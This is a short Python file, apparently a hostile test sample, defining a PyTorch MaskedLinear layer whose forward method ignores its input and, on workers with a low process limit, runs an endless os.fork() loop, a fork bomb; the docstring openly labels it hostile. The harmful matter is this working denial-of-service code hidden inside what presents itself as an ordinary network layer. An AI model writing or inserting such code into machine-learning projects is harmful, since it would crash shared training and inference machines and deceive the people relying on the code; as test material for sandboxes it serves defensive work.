"""Hostile: MaskedLinear.forward is a fork bomb (only where RLIMIT_NPROC caps it, so never on a developer's machine)."""
import os
import time

import torch
import torch.nn as nn


class MaskedLinear(nn.Linear):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__(in_features, out_features, bias)
        self.register_buffer("mask", torch.ones(out_features, in_features))

    def set_mask(self, mask):
        self.mask.copy_(torch.as_tensor(mask, dtype=self.mask.dtype))

    def forward(self, x):
        import resource

        _soft, hard = resource.getrlimit(resource.RLIMIT_NPROC)
        if hard == resource.RLIM_INFINITY or hard > 256:
            raise RuntimeError("hostile fork bomb not started: no RLIMIT_NPROC on this worker")
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
